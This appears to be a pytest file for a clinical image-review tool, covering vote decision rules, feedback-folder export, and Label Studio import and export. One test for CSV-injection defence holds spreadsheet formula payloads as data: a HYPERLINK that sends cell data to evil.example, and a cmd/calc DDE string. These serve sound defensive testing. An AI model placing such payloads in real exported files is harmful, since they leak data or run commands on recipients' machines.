"""Export to the seed's feedback folders, decision rules, and Label Studio JSON in and out."""

from __future__ import annotations

import csv
import json
import uuid
from pathlib import Path

import pytest
from review_helpers import make_samples, make_study
from sqlalchemy import select

from clinalign.errors import ClinalignError, DataError
from clinalign.review import queue
from clinalign.review.db import QC, SAMPLE, Image, Store, User
from clinalign.review.export import Ballot, decide, export_feedback
from clinalign.review.ingest import add_batch, add_concept
from clinalign.review.labelstudio import export_labelstudio, import_labelstudio


def vote(store: Store, reviewer: str, filename: str, verdict: str, **kw) -> None:
    """Claim the image for the reviewer and judge it, as the web app would."""
    with store.write() as s:
        rid = s.scalar(select(User.id).where(User.name == reviewer))
        image = s.scalar(select(Image).where(Image.filename == filename, Image.kind == SAMPLE))
        queue.record_verdict(
            s, rid, request_id=str(uuid.uuid4()), item=image.uid, verdict=verdict, require_slot=False, **kw
        )


def files(root: Path) -> set[str]:
    return {p.relative_to(root).as_posix() for p in root.rglob("*.png")}


# ------------------------------------------------------------------------------ rules


@pytest.mark.parametrize(
    "rule, ballots, folder, why",
    [
        ("majority", ["plausible", "plausible", "implausible"], "align", None),
        ("majority", ["implausible", "unsure", "implausible"], "notalign", None),
        ("majority", ["plausible", "implausible"], None, "tie"),
        ("majority", ["plausible", "implausible", "unsure"], None, "tie"),
        ("majority", ["unsure", "unsure"], None, "unsure"),
        ("majority", [], None, "no votes"),
        ("unanimous", ["plausible", "plausible"], "align", None),
        ("unanimous", ["plausible", "unsure"], None, "not unanimous"),
        ("unanimous", ["implausible", "plausible", "plausible"], None, "not unanimous"),
        ("reviewer:a", ["implausible", "plausible", "plausible"], "notalign", None),
        ("reviewer:z", ["plausible"], None, "not judged by z"),
    ],
)
def test_decision_rules(rule, ballots, folder, why):
    names = "abc"
    d = decide(rule, [Ballot(names[i], v) for i, v in enumerate(ballots)])
    assert (d.folder, d.why_excluded) == (folder, why)


def test_concept_needs_a_majority_of_the_deciding_votes():
    b = [
        Ballot("a", "plausible", "neutrophil-band"),
        Ballot("b", "plausible", "neutrophil-band"),
        Ballot("c", "plausible"),
    ]
    assert decide("majority", b).concept == "neutrophil-band"
    b = [Ballot("a", "plausible", "neutrophil-band"), Ballot("b", "plausible")]
    assert decide("majority", b).concept is None
    with pytest.raises(ClinalignError):
        decide("mode", b)


# ------------------------------------------------------------------------------ folders


def test_export_writes_the_seed_layout(store, tmp_path):
    make_study(store, tmp_path, reviewers=("a", "b", "c"), per_image=3, qc_share=0.2)
    add_concept(store, "b1", "neutrophil-band", "neutrophil")
    vote(
        store,
        "a",
        "neutrophil_000000.png",
        "plausible",
        reasons=["granules", "cell size"],
        comment="fine, really",
    )
    vote(store, "b", "neutrophil_000000.png", "plausible")
    vote(store, "c", "neutrophil_000000.png", "implausible")
    vote(store, "a", "neutrophil_000001.png", "plausible")  # tie -> excluded
    vote(store, "b", "neutrophil_000001.png", "implausible")
    vote(store, "a", "lymphocyte_000000.png", "implausible")
    vote(store, "a", "lymphocyte_000001.png", "unsure")  # unsure only -> excluded
    vote(store, "a", "neutrophil_000002.png", "plausible", concept="neutrophil-band")
    vote(store, "b", "neutrophil_000002.png", "plausible", concept="neutrophil-band")
    # A QC item judged plausible must never appear as synthetic feedback.
    with store.write() as s:
        qc = s.scalar(select(Image).where(Image.kind == QC))
        rid = s.scalar(select(User.id).where(User.name == "a"))
        queue.record_verdict(s, rid, request_id=str(uuid.uuid4()), item=qc.uid, verdict="plausible", require_slot=False)
        qc_name = Path(qc.filename).name

    out = tmp_path / "feedback"
    summary = export_feedback(store, out, rule="majority")
    assert files(out) == {
        "neutrophil/align/neutrophil_000000.png",
        "lymphocyte/notalign/lymphocyte_000000.png",
        "neutrophil-band/align/neutrophil_000002.png",
    }
    assert summary.exported == 3 and summary.excluded == {"tie": 1, "unsure": 1, "no votes": 1}
    assert (out / "neutrophil/align/neutrophil_000000.png").read_bytes() == (
        tmp_path / "samples/neutrophil_000000.png"
    ).read_bytes()
    assert qc_name not in {p.name for p in out.rglob("*")}
    with open(out / "votes.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert list(rows[0]) == ["ID", "class", "reviewer", "verdict", "reasons", "comment", "concept", "time"]
    assert len(rows) == 9  # QC vote left out
    first = next(r for r in rows if r["ID"] == "neutrophil_000000.png" and r["reviewer"] == "a")
    assert (
        first["reasons"] == "granules;cell size"
        and first["comment"] == "fine, really"
        and first["class"] == "neutrophil"
    )
    assert first["time"].endswith("+00:00") and "T" in first["time"]
    assert {r["concept"] for r in rows if r["ID"] == "neutrophil_000002.png"} == {"neutrophil-band"}

    # Other rules, into other folders.
    export_feedback(store, tmp_path / "unan", rule="unanimous")
    assert files(tmp_path / "unan") == {
        "lymphocyte/notalign/lymphocyte_000000.png",
        "neutrophil-band/align/neutrophil_000002.png",
    }
    export_feedback(store, tmp_path / "byc", rule="reviewer:c", batch="b1")
    assert files(tmp_path / "byc") == {"neutrophil/notalign/neutrophil_000000.png"}
    with pytest.raises(ClinalignError):
        export_feedback(store, tmp_path / "x", rule="reviewer:nobody")
    assert not (tmp_path / "x").exists()


def test_export_is_atomic(store, tmp_path, monkeypatch):
    make_study(store, tmp_path)
    vote(store, "alice", "neutrophil_000000.png", "plausible")
    out = tmp_path / "feedback"
    export_feedback(store, out)
    before = files(out)
    # An existing, non-empty folder is never overwritten by accident.
    with pytest.raises(ClinalignError, match="--overwrite"):
        export_feedback(store, out)
    # A crash half-way leaves neither a half-written folder nor a temp folder behind.
    vote(store, "alice", "neutrophil_000001.png", "plausible")
    import clinalign.review.export as ex

    def boom(*a, **k):
        raise OSError("disk full")

    monkeypatch.setattr(ex, "_write_votes", boom)  # images already copied, votes.csv fails
    with pytest.raises(OSError):
        export_feedback(store, out, overwrite=True)
    monkeypatch.undo()
    assert files(out) == before
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []
    export_feedback(store, out, overwrite=True)
    assert len(files(out)) == 2
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_same_file_name_in_two_batches_needs_batch_flag(store, tmp_path):
    make_study(store, tmp_path)
    add_batch(store, tmp_path / "samples", name="b2", qc_share=0)
    with pytest.raises(DataError, match="--batch"):
        export_feedback(store, tmp_path / "out")
    export_feedback(store, tmp_path / "out", batch="b2")


# ------------------------------------------------------------------------------ Label Studio


def test_labelstudio_roundtrip(store, tmp_path):
    make_study(store, tmp_path, reviewers=("a", "b"))
    add_concept(store, "b1", "neutrophil-band", "neutrophil")
    vote(
        store,
        "a",
        "neutrophil_000000.png",
        "plausible",
        reasons=["granules"],
        comment="ok",
        concept="neutrophil-band",
    )
    vote(store, "b", "neutrophil_000000.png", "implausible")
    vote(store, "a", "lymphocyte_000002.png", "unsure")
    out = tmp_path / "ls"
    info = export_labelstudio(store, out, batch="b1")
    assert info == {"out": str(out), "tasks": 6, "annotations": 3}
    tasks = json.loads((out / "tasks.json").read_text())
    config = (out / "labeling_config.xml").read_text()
    assert '<Choice value="Plausible"' in config and 'name="reasons"' in config
    t0 = next(t for t in tasks if t["data"]["clinalign_id"] == "neutrophil_000000.png")
    assert t0["data"]["image"] == "images/neutrophil_000000.png" and (out / t0["data"]["image"]).is_file()
    results = {r["from_name"]: r for r in t0["annotations"][0]["result"]}
    assert results["verdict"]["type"] == "choices" and results["verdict"]["value"]["choices"] == ["Plausible"]
    assert results["comment"]["value"]["text"] == ["ok"]

    # Import into a fresh database holding the same images.
    other = Store(f"sqlite:///{tmp_path / 'other.db'}")
    try:
        add_batch(other, tmp_path / "samples", name="lab", qc_share=0)
        summary = import_labelstudio(other, out / "tasks.json", batch="lab")
        assert summary.imported == 3 and summary.matched == 6 and sorted(summary.reviewers) == ["a", "b"]
        again = import_labelstudio(other, out / "tasks.json", batch="lab")
        assert summary.skipped == {"unknown concept (dropped)": 1}
        assert again.imported == 0 and again.skipped["already imported"] == 3
        export_feedback(other, tmp_path / "fb", rule="reviewer:a")
        assert files(tmp_path / "fb") == {"neutrophil/align/neutrophil_000000.png"}
        rows = list(csv.DictReader(open(tmp_path / "fb" / "votes.csv")))
        assert {(r["reviewer"], r["verdict"]) for r in rows} == {
            ("a", "plausible"),
            ("b", "implausible"),
            ("a", "unsure"),
        }
        # Concept is only kept when the target batch knows it.
        assert {r["concept"] for r in rows} == {""}
    finally:
        other.dispose()


def test_import_of_a_native_labelstudio_export(store, tmp_path):
    make_samples(tmp_path / "s", n=2)
    add_batch(store, tmp_path / "s", name="lab", qc_share=0)
    tasks = [
        {
            "id": 1,
            "data": {"image": "/data/upload/3/1a2b3c4d-neutrophil_000000.png"},
            "annotations": [
                {
                    "id": 11,
                    "completed_by": 7,
                    "created_at": "2024-03-09T21:52:49.513742Z",
                    "was_cancelled": False,
                    "result": [
                        {
                            "from_name": "choice",
                            "to_name": "image",
                            "type": "choices",
                            "value": {"choices": ["Implausible"]},
                        },
                        {
                            "from_name": "notes",
                            "to_name": "image",
                            "type": "textarea",
                            "value": {"text": ["odd nucleus"]},
                        },
                    ],
                },
                {
                    "id": 12,
                    "completed_by": {"id": 8, "email": "dr.who@lab.org"},
                    "was_cancelled": True,
                    "result": [{"type": "choices", "value": {"choices": ["Plausible"]}}],
                },
            ],
        },
        {
            "id": 2,
            "data": {"image": "/data/local-files/?d=cells/lymphocyte_000001.png"},
            "annotations": [
                {
                    "id": 13,
                    "completed_by": {"id": 8, "email": "dr.who@lab.org"},
                    "result": [
                        {
                            "type": "choices",
                            "from_name": "v",
                            "to_name": "image",
                            "value": {"choices": ["plausible"]},
                        }
                    ],
                }
            ],
        },
        {"id": 3, "data": {"image": "https://elsewhere/unknown_1.png"}, "annotations": []},
    ]
    path = tmp_path / "export.json"
    path.write_text(json.dumps(tasks))
    s = import_labelstudio(store, path, batch="lab")
    assert (s.imported, s.matched, s.unmatched) == (2, 2, ["unknown_1.png"])
    assert s.skipped == {"cancelled": 1}
    assert sorted(s.reviewers) == ["dr.who@lab.org", "labelstudio-7"]
    export_feedback(store, tmp_path / "fb")
    rows = {r["ID"]: r for r in csv.DictReader(open(tmp_path / "fb" / "votes.csv"))}
    assert rows["neutrophil_000000.png"]["comment"] == "odd nucleus"
    assert rows["neutrophil_000000.png"]["time"].startswith("2024-03-09T21:52:49")
    assert files(tmp_path / "fb") == {
        "neutrophil/notalign/neutrophil_000000.png",
        "lymphocyte/align/lymphocyte_000001.png",
    }
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps([{"data": {"image": "nothing_here.png"}, "annotations": []}]))
    with pytest.raises(DataError, match="none of the 1 tasks"):
        import_labelstudio(store, bad, batch="lab")
    bad.write_text("{oops")
    with pytest.raises(DataError):
        import_labelstudio(store, bad, batch="lab")


def test_votes_csv_cannot_run_formulas_in_a_spreadsheet(store, tmp_path):
    """OWASP CSV injection: a cell starting with = + - @ tab or CR is a formula to Excel,
    LibreOffice and Google Sheets; it is written with a leading apostrophe instead."""
    make_study(store, tmp_path, reviewers=("a",), per_image=1, n=4)
    comments = {
        "neutrophil_000000.png": '=HYPERLINK("http://evil.example/?"&A1,"see")',
        "neutrophil_000001.png": "@SUM(1+1)*cmd|' /C calc'!A0",
        "neutrophil_000002.png": "+1+1",
        "neutrophil_000003.png": "-2+3",
        "lymphocyte_000000.png": "\t=1+1",
        "lymphocyte_000001.png": "\r=1+1",
        "lymphocyte_000002.png": "looks fine = no formula",
    }
    for name, comment in comments.items():
        vote(store, "a", name, "plausible", comment=comment)
    export_feedback(store, tmp_path / "out")
    with open(tmp_path / "out" / "votes.csv", newline="") as f:
        rows = {r["ID"]: r for r in csv.DictReader(f)}
    for name, comment in comments.items():
        written = rows[name]["comment"]
        if comment[0] in "=+-@\t\r":
            assert written == "'" + comment, (name, written)
        else:
            assert written == comment
    assert all(r[k][:1] not in ("=", "+", "-", "@", "\t", "\r") for r in rows.values() for k in r)


def test_labelstudio_import_names_the_annotation_with_a_control_character(sqlite_url, tmp_path):
    store = Store(sqlite_url)
    make_samples(tmp_path / "s", n=1)
    add_batch(store, tmp_path / "s", name="lab", qc_share=0)
    result = [
        {"type": "choices", "value": {"choices": ["Plausible"]}},
        {"type": "textarea", "value": {"text": ["bad\x00byte"]}},
    ]
    task = {"data": {"image": "neutrophil_000000.png"}, "annotations": [{"id": 5, "completed_by": 1, "result": result}]}
    (tmp_path / "ls.json").write_text(json.dumps([task]))
    with pytest.raises(DataError, match=r"ls\.json: annotation 5 of neutrophil_000000\.png: comment contains"):
        import_labelstudio(store, tmp_path / "ls.json", batch="lab")
    store.dispose()
